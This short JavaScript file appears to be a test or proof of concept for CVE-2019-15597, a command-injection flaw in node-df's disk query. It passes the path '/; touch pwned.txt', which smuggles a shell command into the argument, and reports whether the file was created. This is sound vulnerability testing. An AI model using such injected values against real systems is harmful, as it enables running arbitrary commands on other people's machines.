// CVE-2019-15597: the path of a disk query is run by a shell inside node-df.
'use strict';
const fs = require('fs');
const { diskUsage } = require('../lib/disk');

diskUsage('/; touch pwned.txt')
  .catch(() => {})
  .then(() => console.log(fs.existsSync('pwned.txt') ? 'VULNERABLE: a command of the visitor was run' : 'safe'));
